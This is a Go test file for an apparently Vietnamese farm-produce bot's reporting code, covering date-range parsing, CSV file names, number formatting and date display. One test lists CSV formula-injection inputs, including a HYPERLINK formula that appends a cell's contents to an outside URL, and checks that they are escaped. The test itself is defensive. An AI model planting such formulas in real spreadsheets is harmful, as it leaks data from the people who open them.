package flows

import (
	"testing"
	"time"

	"github.com/nongsan-bot/nongsan/flows/vn"
)

func TestATypedPeriodLooksBack(t *testing.T) {
	now := time.Date(2026, 12, 1, 5, 0, 0, 0, vn.Location())
	day := func(y int, m time.Month, d int) time.Time { return time.Date(y, m, d, 0, 0, 0, 0, vn.Location()) }
	for typed, want := range map[string][2]time.Time{
		"từ 1/11 đến 30/11":      {day(2026, 11, 1), day(2026, 11, 30)},
		"tu 15/12 den 10/1":      {day(2025, 12, 15), day(2026, 1, 10)},
		"1/10/2026 - 31/10/2026": {day(2026, 10, 1), day(2026, 10, 31)},
	} {
		m := rangePattern.FindStringSubmatch(vn.Fold(typed))
		if m == nil {
			t.Errorf("%q: not a period", typed)
			continue
		}
		from, err1 := pastDate(m[1], now)
		to, err2 := pastDate(m[2], now)
		if err1 != nil || err2 != nil || !from.Equal(want[0]) || !to.Equal(want[1]) {
			t.Errorf("%q = %s – %s (%v, %v), want %s – %s", typed, from, to, err1, err2, want[0], want[1])
		}
	}
}

func TestFigureFileNames(t *testing.T) {
	nov := time.Date(2026, 11, 1, 0, 0, 0, 0, vn.Location())
	if got := fileName(figuresDraft{Kind: periodLastMonth, From: nov, To: nov.AddDate(0, 1, 0)}, ""); got != "thong-ke-2026-11.csv" {
		t.Errorf("month: %s", got)
	}
	d := figuresDraft{Kind: period7, From: nov.AddDate(0, 0, 23), To: nov.AddDate(0, 0, 30)}
	if got := fileName(d, "chi_lang"); got != "thong-ke-2026-11-24-2026-11-30-chi-lang.csv" {
		t.Errorf("7 days of Chi Lăng: %s", got)
	}
	if got := plainMilli(1_250_500); got != "1250.5" {
		t.Errorf("plainMilli = %s", got)
	}
}

func TestAProductNameNeverRunsAsAFormulaInTheSpreadsheet(t *testing.T) {
	for typed, want := range map[string]string{
		`=HYPERLINK("http://x/?"&A1,"Na")`: `'=HYPERLINK("http://x/?"&A1,"Na")`,
		"+84912345678":                     "'+84912345678",
		"-1":                               "'-1",
		"@SUM(A1)":                         "'@SUM(A1)",
		"Na Chi Lăng":                      "Na Chi Lăng",
		"":                                 "",
	} {
		if got := cell(typed); got != want {
			t.Errorf("cell(%q) = %q, want %q", typed, got, want)
		}
	}
}

// A moderator reads counts the Vietnamese way: `1.250 đơn`, not `1250 đơn`.
func TestAReportLineCountsOrdersWithThousandsDots(t *testing.T) {
	m := lineMsg("Na Chi Lăng", 1250, "12.500 kg")
	if got := m.Data["Orders"]; got != "1.250" {
		t.Errorf("1250 orders read %v, want 1.250", got)
	}
	if got := lineMsg("Bưởi", 3, "40 quả").Data["Orders"]; got != "3" {
		t.Errorf("3 orders read %v", got)
	}
}

// A period reads as DOMAIN writes dates, `1/11–30/11`: the year only when
// it is not this year's, never an ISO date.
func TestAPeriodReadsAsPeopleWriteDays(t *testing.T) {
	now := time.Date(2026, 12, 3, 9, 0, 0, 0, vn.Location())
	day := func(y int, m time.Month, d int) time.Time { return time.Date(y, m, d, 0, 0, 0, 0, vn.Location()) }
	for _, c := range []struct {
		day  time.Time
		want string
	}{
		{day(2026, 11, 1), "1/11"},
		{day(2026, 11, 30), "30/11"},
		{day(2025, 12, 15), "15/12/2025"},
		{time.Date(2026, 11, 30, 17, 30, 0, 0, time.UTC), "1/12"}, // 00:30 on 1/12 in Hà Nội
	} {
		if got := dayOf(c.day, now); got != c.want {
			t.Errorf("dayOf(%s) = %q, want %q", c.day, got, c.want)
		}
	}
}
